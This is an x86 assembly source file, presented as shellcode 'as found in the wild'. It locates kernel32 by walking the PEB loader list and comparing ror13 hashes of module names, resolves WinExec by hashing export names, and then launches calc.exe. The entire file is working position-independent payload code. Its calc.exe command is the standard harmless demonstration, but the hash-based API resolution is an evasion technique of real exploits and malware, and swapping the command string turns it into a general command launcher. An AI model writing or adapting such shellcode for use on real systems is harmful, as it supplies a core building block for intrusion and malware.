# Shellcode as it is found in the wild: TEB -> PEB -> Ldr, kernel32 by the ror13 hash of its upper-case
# BaseDllName (NUL included), WinExec by the ror13 hash of its name, then WinExec("calc.exe", 1) and return.
# Returns in eax what WinExec returned, or -1 to -3 when it did not find a module, exports or the name.
.intel_syntax noprefix
.text
        push ebx
        push esi
        push edi
        push ebp

        mov eax, fs:[0x30]              # TEB.ProcessEnvironmentBlock
        mov eax, [eax + 0x0c]           # PEB.Ldr
        lea ebp, [eax + 0x14]           # Ldr.InMemoryOrderModuleList, the head
        mov ebx, ebp
next_module:
        mov ebx, [ebx]
        cmp ebx, ebp
        je no_module
        mov esi, [ebx + 0x28]           # BaseDllName.Buffer
        movzx ecx, word ptr [ebx + 0x26] # BaseDllName.MaximumLength
        xor edx, edx
hash_module:
        movzx eax, byte ptr [esi]
        inc esi
        cmp al, 'a'
        jb module_upper
        sub al, 0x20
module_upper:
        ror edx, 13
        add edx, eax
        dec ecx
        jnz hash_module
        cmp edx, 0x92af16da             # KERNEL32.DLL
        jne next_module

        mov ebx, [ebx + 0x10]           # DllBase
        mov eax, [ebx + 0x3c]           # e_lfanew
        mov eax, [ebx + eax + 0x78]     # the export directory of PE32
        test eax, eax
        jz no_exports
        lea ebp, [ebx + eax]
        mov ecx, [ebp + 0x18]           # NumberOfNames
        mov edi, [ebp + 0x20]           # AddressOfNames
        add edi, ebx
next_name:
        test ecx, ecx
        jz no_name
        dec ecx
        mov esi, [edi + ecx * 4]
        add esi, ebx
        xor edx, edx
hash_name:
        movzx eax, byte ptr [esi]
        inc esi
        test al, al
        jz name_done
        ror edx, 13
        add edx, eax
        jmp hash_name
name_done:
        cmp edx, 0x0e8afe98             # WinExec
        jne next_name

        mov eax, [ebp + 0x24]           # AddressOfNameOrdinals
        add eax, ebx
        movzx ecx, word ptr [eax + ecx * 2]
        mov eax, [ebp + 0x1c]           # AddressOfFunctions
        add eax, ebx
        mov eax, [eax + ecx * 4]
        add eax, ebx
        push 1                          # SW_SHOWNORMAL
        call over                       # pushes the address of the text
        .asciz "calc.exe"
over:
        call eax                        # pops its two arguments
        jmp out
no_module:
        mov eax, -1
        jmp out
no_exports:
        mov eax, -2
        jmp out
no_name:
        mov eax, -3
out:
        pop ebp
        pop edi
        pop esi
        pop ebx
        ret
